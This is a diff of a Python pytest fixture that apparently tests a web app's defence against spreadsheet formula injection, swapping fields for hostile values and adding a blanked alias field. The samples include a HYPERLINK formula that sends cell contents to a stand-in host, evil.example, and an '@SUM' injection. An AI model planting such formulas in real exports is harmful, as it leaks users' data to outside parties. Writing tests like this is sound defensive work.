@@ -437,6 +437,8 @@ def formula_client(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
             'reftext: \'=HYPERLINK("http://evil.example/?leak="&A1,"x")\'\n'
             'journal_title: "@SUM(A1)"'
         ),
+        # Without an alias, a GMT description is the title alone: it starts the cell.
+        "figid_alias: PMC7513516__F1": "figid_alias: ''",
     }
     for line, replacement in hostile.items():
         assert line in text
